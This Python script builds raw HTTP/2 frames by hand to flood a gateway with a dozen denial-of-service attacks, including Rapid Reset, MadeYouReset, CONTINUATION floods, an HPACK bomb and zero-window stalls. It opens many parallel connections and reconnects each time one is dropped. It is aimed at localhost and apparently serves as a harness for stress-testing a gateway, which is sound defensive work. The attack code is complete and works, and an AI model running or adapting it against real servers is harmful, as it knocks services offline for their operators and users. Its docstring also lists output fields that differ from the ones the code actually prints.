"""Floods of HTTP/2 that no library sends: frames made by hand, as many as the gateway takes, until the time is over.

    floods.py KIND --port N --from 127.0.0.66 --seconds 60 --connections 8

A connection that the gateway ends is opened again at once. Prints one JSON object: connections, bytes, ends.
"""

import argparse
import json
import select
import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
BATCH = 100


def frame(kind, flags, stream, content=b""):
    return struct.pack(">I", len(content))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + content


def text(value):
    """A length in HPACK's seven-bit prefix, and the bytes."""
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest, length = len(value) - 127, b"\x7f"
    while rest >= 128:
        length, rest = length + bytes([rest % 128 | 128]), rest // 128
    return length + bytes([rest]) + value


def field(name, value, indexed=False):
    return (b"\x40" if indexed else b"\x00") + text(name) + text(value)


def head(path, method=b"POST", more=b""):
    return b"".join([field(b":method", method), field(b":scheme", b"http"), field(b":authority", b"gateway.test"),
                     field(b":path", path), more])


def rapid_reset(path):
    """Streams that are cancelled as soon as they are opened (CVE-2023-44487)."""
    block, cancel = head(path), struct.pack(">I", 8)
    for first in range(1, 2**31 - 2 * BATCH, 2 * BATCH):
        yield b"".join(frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, cancel)
                       for stream in range(first, first + 2 * BATCH, 2))


def made_you_reset(path):
    """Streams that the gateway has to cancel by itself (CVE-2025-8671): a window is enlarged by nothing."""
    block, nothing = head(path), struct.pack(">I", 0)
    for first in range(1, 2**31 - 2 * BATCH, 2 * BATCH):
        yield b"".join(frame(HEADERS, END_HEADERS, stream, block) + frame(WINDOW_UPDATE, 0, stream, nothing)
                       for stream in range(first, first + 2 * BATCH, 2))


def continuation(path):
    """A head without an end (CVE-2024-27316 and its like)."""
    yield frame(HEADERS, 0, 1, head(path))
    piece = b"".join(field(b"x-%06d" % n, b"y" * 100) for n in range(140))
    while True:
        yield frame(CONTINUATION, 0, 1, piece)


def empty_continuation(path):
    """The same, of frames with nothing in them."""
    yield frame(HEADERS, 0, 1, head(path))
    while True:
        yield frame(CONTINUATION, 0, 1) * 1000


def empty_data(path):
    """Bodies of frames with nothing in them (CVE-2019-9518)."""
    streams = range(1, 2 * BATCH, 2)
    for stream in streams:
        yield frame(HEADERS, END_HEADERS, stream, head(path))
    while True:
        yield b"".join(frame(DATA, 0, stream) for stream in streams) * 10


def byte_data(path):
    """Bodies of one byte a frame."""
    streams = range(1, 2 * BATCH, 2)
    for stream in streams:
        yield frame(HEADERS, END_HEADERS, stream, head(path))
    while True:
        yield b"".join(frame(DATA, 0, stream, b"x") for stream in streams)


def hpack_bomb(path):
    """Sixteen thousand references of a byte each to a field of four kilobytes (CVE-2016-6581)."""
    large = field(b"x-bomb", b"b" * 3900, indexed=True)
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, head(path, b"GET", large))
    block = head(path, b"GET") + b"\xbe" * 16000
    for first in range(3, 2**31 - 20, 20):
        yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in range(first, first + 20, 2))


def settings(_):
    """Settings, each of which asks for an answer that is never read (CVE-2019-9515)."""
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 1000


def ping(_):
    """Pings, likewise (CVE-2019-9512)."""
    while True:
        yield frame(PING, 0, 0, b"12345678") * 1000


def priority(_):
    """A tree of streams that depend on each other, rebuilt all the time (CVE-2019-9513)."""
    while True:
        yield b"".join(frame(PRIORITY, 0, stream, struct.pack(">IB", stream ^ 2, 9)) for stream in range(1, 2001, 2))


def zero_window(_):
    """Answers that nobody makes room for (CVE-2019-9511, -9517)."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    for stream in range(1, 2 * BATCH, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, head(b"/large", b"GET"))
    while True:
        time.sleep(1)
        yield frame(PING, 0, 0, b"12345678")


def one_byte_window(_):
    """The same, with room for one byte now and then."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    streams = range(1, 2 * BATCH, 2)
    for stream in streams:
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, head(b"/large", b"GET"))
    while True:
        time.sleep(0.2)
        yield b"".join(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1)) for stream in streams)


UNREAD = {settings, ping}
KINDS = {kind.__name__: kind for kind in (
    rapid_reset, made_you_reset, continuation, empty_continuation, empty_data, byte_data, hpack_bomb, settings, ping,
    priority, zero_window, one_byte_window)}


class Attacker(threading.Thread):
    """One connection at a time."""

    def __init__(self, options, end):
        super().__init__(daemon=True)
        self.kind, self.options, self.end = KINDS[options.kind], options, end
        self.connections = self.sent = self.ended = 0

    def run(self):
        while time.monotonic() < self.end:
            try:
                self.attack()
            except OSError:
                self.ended += 1
                time.sleep(0.005)

    def attack(self):
        with socket.socket() as stream:
            stream.bind((self.options.origin, 0))
            stream.settimeout(2)
            stream.connect(("127.0.0.1", self.options.port))
            self.connections += 1
            stream.sendall(PREFACE + frame(SETTINGS, 0, 0))
            for piece in self.kind(self.options.path.encode()):
                if time.monotonic() >= self.end:
                    return
                self.send(stream, piece)

    def send(self, stream, piece):
        reads = self.kind not in UNREAD
        view = memoryview(piece)
        while view:
            readable, writable, _ = select.select([stream] if reads else [], [stream], [], 0.5)
            if readable and not stream.recv(1 << 16):
                raise ConnectionError
            if writable:
                taken = stream.send(view)
                self.sent += taken
                view = view[taken:]
            elif time.monotonic() >= self.end:
                return


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--path", default="/hooks/gh")
    parser.add_argument("--from", dest="origin", default="127.0.0.66")
    parser.add_argument("--seconds", type=float, default=60)
    parser.add_argument("--connections", type=int, default=8)
    options = parser.parse_args()
    end = time.monotonic() + options.seconds
    attackers = [Attacker(options, end) for _ in range(options.connections)]
    for attacker in attackers:
        attacker.start()
    for attacker in attackers:
        attacker.join(options.seconds + 10)
    print(json.dumps({"connections": sum(one.connections for one in attackers),
                      "ended": sum(one.ended for one in attackers),
                      "sent_mb": round(sum(one.sent for one in attackers) / 1e6, 1)}))


if __name__ == "__main__":
    main()
